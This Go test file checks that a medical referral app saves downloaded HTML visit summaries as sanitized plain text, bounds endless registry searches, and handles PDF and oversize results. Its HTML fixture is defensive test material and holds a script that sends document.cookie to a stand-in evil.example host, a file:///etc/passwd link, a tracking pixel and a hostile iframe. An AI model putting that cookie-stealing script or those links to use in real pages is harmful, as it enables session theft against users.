package syncer

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/referraldesk/referraldesk/app"
	"github.com/referraldesk/referraldesk/app/fhir"
	"github.com/referraldesk/referraldesk/app/netsafe"
)

const htmlResult = `<!DOCTYPE html><html><head><title>Visit summary</title>
<script>fetch("https://evil.example/?"+document.cookie)</script><style>p{color:red}</style></head>
<body><h1>Cardiology visit</h1><p>Seen on 2026-11-03. <a href="file:///etc/passwd">Details</a> &amp; plan:</p>
<ul><li>Echo in 3 months</li><li>Continue <b>metoprolol</b></li></ul>
<img src="https://tracker.example/p.gif" alt="chart"><iframe src="https://evil.example/"></iframe></body></html>`

// An HTML result is kept as plain text (.txt): no markup, no script, no link address survives.
func TestSaveResultHTMLBecomesText(t *testing.T) {
	for _, c := range []struct{ name, declared, served string }{
		{"declared", "text/html; charset=utf-8", ""},
		{"served", "application/octet-stream", "text/html"},
		{"sniffed", "text/plain", "application/octet-stream"},
	} {
		t.Run(c.name, func(t *testing.T) {
			dir := t.TempDir()
			path, err := saveResult(strings.NewReader(htmlResult), dir, 7, MaxResultBytes, c.declared, c.served)
			if err != nil {
				t.Fatal(err)
			}
			if filepath.Base(path) != "result-7.txt" {
				t.Errorf("saved as %s, want result-7.txt", filepath.Base(path))
			}
			b, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			text := string(b)
			for _, want := range []string{"Visit summary", "Cardiology visit", "Details & plan:", "• Echo in 3 months", "• Continue metoprolol", "[chart]"} {
				if !strings.Contains(text, want) {
					t.Errorf("text lacks %q:\n%s", want, text)
				}
			}
			for _, bad := range []string{"<", "evil.example", "tracker", "file://", "/etc/passwd", "cookie", "color:red"} {
				if strings.Contains(text, bad) {
					t.Errorf("text keeps %q:\n%s", bad, text)
				}
			}
			checkOnlyFile(t, dir, "result-7.txt")
		})
	}
}

// The service's SaveResult (here with content that came inline) gives the app a text file for an
// HTML result, never a .html page to open in the browser.
func TestServiceSaveResultHTML(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "results")
	path, err := (&Service{}).SaveResult(context.Background(), app.Result{ID: 3, ContentType: "text/html", Data: []byte(htmlResult)}, dir)
	if err != nil {
		t.Fatal(err)
	}
	if filepath.Ext(path) != ".txt" {
		t.Fatalf("HTML result saved as %s", filepath.Base(path))
	}
	checkOnlyFile(t, dir, "result-3.txt")
}

// A registry search whose server always offers another page stops after two pages and asks
// for a narrower search (it used to read 50 pages).
func TestSearchRegistryBounded(t *testing.T) {
	var hits atomic.Int32
	var srv *httptest.Server
	srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		n := hits.Add(1)
		w.Header().Set("Content-Type", "application/fhir+json")
		fmt.Fprintf(w, `{"resourceType":"Bundle","type":"searchset","entry":[{"resource":{"resourceType":"Patient","id":"p%d","name":[{"family":"Smith"}]}}],
"link":[{"relation":"next","url":"%s/fhir/Patient?page=%d"}]}`, n, srv.URL, n+1)
	}))
	defer srv.Close()
	w := &Worker{Store: realDatabase{}, Transport: &fhir.Client{Base: srv.URL + "/fhir"}}
	_, err := w.SearchRegistry(context.Background(), "Smith")
	if !errors.Is(err, ErrRegistryTooBroad) || hits.Load() != registryPages {
		t.Errorf("endless registry search: %v after %d requests", err, hits.Load())
	}
}

// A PDF result keeps its bytes and extension.
func TestSaveResultPDF(t *testing.T) {
	dir := t.TempDir()
	path, err := saveResult(strings.NewReader("%PDF-1.7\n%fake"), dir, 8, MaxResultBytes, "application/pdf", "application/pdf")
	if err != nil || filepath.Base(path) != "result-8.pdf" {
		t.Fatalf("saveResult: %s %v", path, err)
	}
	checkOnlyFile(t, dir, "result-8.pdf")
}

// A download past the cap is refused with the message and leaves nothing behind.
func TestSaveResultTooLarge(t *testing.T) {
	dir := t.TempDir()
	_, err := saveResult(io.LimitReader(repeat('x'), 2<<20+1), dir, 9, 2<<20, "application/pdf")
	if !errors.Is(err, netsafe.ErrTooLarge) || !strings.Contains(err.Error(), "the result is larger than 2.1 MB") {
		t.Fatalf("oversize result: %v", err)
	}
	if left, _ := os.ReadDir(dir); len(left) != 0 {
		t.Errorf("left %d file(s) in the results folder", len(left))
	}
}

func checkOnlyFile(t *testing.T, dir, name string) {
	t.Helper()
	left, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(left) != 1 || left[0].Name() != name {
		t.Errorf("results folder holds %v, want only %s", left, name)
		return
	}
	st, err := os.Stat(filepath.Join(dir, name))
	if err == nil && runtime.GOOS != "windows" && st.Mode().Perm() != 0o600 {
		t.Errorf("%s has mode %v, want 0600", name, st.Mode().Perm())
	}
}

type repeat byte

func (r repeat) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = byte(r)
	}
	return len(p), nil
}

// realDatabase is a store that is not a demo database; the registry search needs nothing else of it.
type realDatabase struct{ Store }

func (realDatabase) IsDemo(context.Context) (bool, error) { return false, nil }
